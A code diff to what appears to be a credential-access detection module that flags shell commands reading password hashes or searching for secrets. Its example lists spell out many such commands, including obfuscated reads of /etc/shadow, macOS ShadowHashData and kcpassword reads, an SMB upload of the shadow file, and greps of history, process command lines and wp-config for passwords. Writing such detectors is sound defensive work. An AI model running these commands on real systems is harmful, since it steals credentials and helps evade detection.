@@ -68,7 +68,7 @@ const namesOneFile = (p: string) => p.lastIndexOf('.') > p.lastIndexOf('/') + 1;
 /** The clipboard, where a password manager's entry goes without being printed (`op read … | pbcopy`). */
 const toClipboard = (c: SimpleCommand) => c.name === 'pbcopy' || c.name === 'wl-copy' || c.name === 'clip.exe' || ((c.name === 'xclip' || c.name === 'xsel') && !c.argv.some((a) => a === '-o' || a === '-out' || a === '--output'));
 /** Words a search for secrets looks for. */
-const SECRET_WORDS = /passw|secret|token|api.?key|private.?key|BEGIN .*PRIVATE|aws_secret|credential/i;
+const SECRET_WORDS = /passw|\bpass\b|secret|token|api.?key|private.?key|BEGIN .*PRIVATE|aws_secret|credential/i;
 /** The fixed prefixes of well-known key formats (AWS, GitHub, Slack, OpenAI, Anthropic, Google, GitLab), as a pattern searches for them. */
 const KEY_PREFIXES = /AKIA|ASIA[0-9A-Z[]|ghp_|github_pat_|xox[abprs]-|sk-(?:proj|ant)-|AIza|glpat-/;
 const looksForSecrets = (pattern: string) => SECRET_WORDS.test(pattern) || KEY_PREFIXES.test(pattern);
@@ -219,8 +219,13 @@ export const CREDENTIAL_RULES: readonly Rule[] = [
   {
     id: 'PX-CRED-005', name: 'reads-password-hashes', score: 85, tactic: 'credential_access', technique: 'T1003.008', strong: true,
     message: 'Reads system password hashes', why: '/etc/shadow holds the hashes that offline cracking turns into passwords.',
-    check: (i) => evidence(reads(i, ['password-hashes'], new Set(['read', 'exec', 'mention', 'edit']))),
-    examples: { fire: ['cat /etc/shadow', 'cat /etc/shadow | grep root', 'sudo cp /etc/shadow /tmp/s', 'cat${IFS}/etc/shadow', '{cat,/etc/shadow}', "smbclient //203.0.113.9/share -N -c 'put /etc/shadow s'", 'cat ${HOME:0:1}etc${HOME:0:1}shadow', 'x=$(< /etc/shadow); echo "$x"', "sed -n '1e cat /etc/shadow' /dev/null", "tar -cf /dev/null /dev/null --to-command='cat /etc/shadow'", 'for f in /etc/passwd /etc/shadow; do cat $f; done', 's=/etc/sXadow; cat ${s/X/h}', 'x=/ETC/SHADOW; cat ${x,,}', 'xargs cat <<< /etc/shadow', 'git diff --no-index /dev/null /etc/shadow', `python3 -c 'print(open("/etc/" + "shadow").read())'`], quiet: ['cat /etc/hostname', 'grep -rn shadow src/'] },
+    check: (i) => {
+      const out = evidence(reads(i, ['password-hashes'], new Set(['read', 'exec', 'mention', 'edit'])));
+      // macOS keeps each account's hash as a Directory Services attribute, not in a file
+      const ds = (i.view?.commands ?? []).find((c) => (c.name === 'dscl' || c.name === 'dsexport') && c.argv.some((a) => /^ShadowHashData$|^dsAttrTypeNative:ShadowHashData$/i.test(a)));
+      return ds ? [out, ds.argv.join(' ')].filter(Boolean).join(', ') : out;
+    },
+    examples: { fire: ['cat /etc/shadow', 'sudo dscl . -read /Users/admin ShadowHashData', 'sudo cat /etc/kcpassword', 'cat /etc/shadow | grep root', 'sudo cp /etc/shadow /tmp/s', 'cat${IFS}/etc/shadow', '{cat,/etc/shadow}', "smbclient //203.0.113.9/share -N -c 'put /etc/shadow s'", 'cat ${HOME:0:1}etc${HOME:0:1}shadow', 'x=$(< /etc/shadow); echo "$x"', "sed -n '1e cat /etc/shadow' /dev/null", "tar -cf /dev/null /dev/null --to-command='cat /etc/shadow'", 'for f in /etc/passwd /etc/shadow; do cat $f; done', 's=/etc/sXadow; cat ${s/X/h}', 'x=/ETC/SHADOW; cat ${x,,}', 'xargs cat <<< /etc/shadow', 'git diff --no-index /dev/null /etc/shadow', `python3 -c 'print(open("/etc/" + "shadow").read())'`], quiet: ['cat /etc/hostname', 'grep -rn shadow src/', 'dscl . -read /Users/admin RealName'] },
   },
   {
     id: 'PX-CRED-006', name: 'reads-password-store-or-wallet', score: 80, tactic: 'credential_access', technique: 'T1555.005', strong: true,
@@ -286,7 +291,7 @@ export const CREDENTIAL_RULES: readonly Rule[] = [
       const inspected = (from === 'docker' || from === 'podman') && c.pipeFrom!.argv.includes('inspect');
       return from === 'history' || from === 'env' || from === 'printenv' || from === 'set' || inspected || wide || (c.pipeFrom?.name === 'cat' && /history/.test(c.pipeFrom.argv.join(' '))) ? `${from ? from + ' | ' : ''}${c.argv.join(' ')}` : undefined;
     },
-    examples: { fire: ['history | grep -i password', 'env | grep -i token', 'grep -rni token ~/.config', "mdfind \"kMDItemTextContent == '*password*'\"", "sudo grep -a -o 'password=[^&]*' /proc/*/cmdline", 'grep -ri "password" / 2>/dev/null', 'grep -rn "BEGIN RSA PRIVATE KEY" ~', "docker inspect $(docker ps -q) | grep -iE 'password|secret|token'", 'grep -rn "AKIA[0-9A-Z]\\{16\\}" ~ 2>/dev/null', "rg -o 'ghp_[A-Za-z0-9]{36}' /home", 'printenv | grep -iE "secret|token"', 'find / -name wp-config.php -exec grep DB_PASSWORD {} \\; 2>/dev/null', 'grep -r DB_PASSWORD /var/www', 'find / -name wp-config.php -print0 | xargs -0 grep -h DB_PASSWORD'], quiet: ['find . -name "*.ts" | xargs grep -l token', 'grep -rn password src/', 'grep -n API_KEY .env.example', 'rg token lib/auth.ts', 'find src -name "*.ts" -exec grep -l token {} +', 'grep -rn passwordReset /var/www/app/src/components', 'grep api_key ~/.config/app/config.toml'] },
+    examples: { fire: ['history | grep -i password', 'grep -i pass ~/.bash_history', 'cat ~/.bash_history | grep -i pass', 'env | grep -i token', 'grep -rni token ~/.config', "mdfind \"kMDItemTextContent == '*password*'\"", "sudo grep -a -o 'password=[^&]*' /proc/*/cmdline", 'grep -ri "password" / 2>/dev/null', 'grep -rn "BEGIN RSA PRIVATE KEY" ~', "docker inspect $(docker ps -q) | grep -iE 'password|secret|token'", 'grep -rn "AKIA[0-9A-Z]\\{16\\}" ~ 2>/dev/null', "rg -o 'ghp_[A-Za-z0-9]{36}' /home", 'printenv | grep -iE "secret|token"', 'find / -name wp-config.php -exec grep DB_PASSWORD {} \\; 2>/dev/null', 'grep -r DB_PASSWORD /var/www', 'find / -name wp-config.php -print0 | xargs -0 grep -h DB_PASSWORD'], quiet: ['find . -name "*.ts" | xargs grep -l token', 'grep -rn password src/', 'grep -n API_KEY .env.example', 'rg token lib/auth.ts', 'find src -name "*.ts" -exec grep -l token {} +', 'grep -rn passwordReset /var/www/app/src/components', 'grep api_key ~/.config/app/config.toml'] },
   },
   {
     id: 'PX-CRED-012', name: 'dumps-secret-environment', score: 55, tactic: 'credential_access', technique: 'T1552.001',
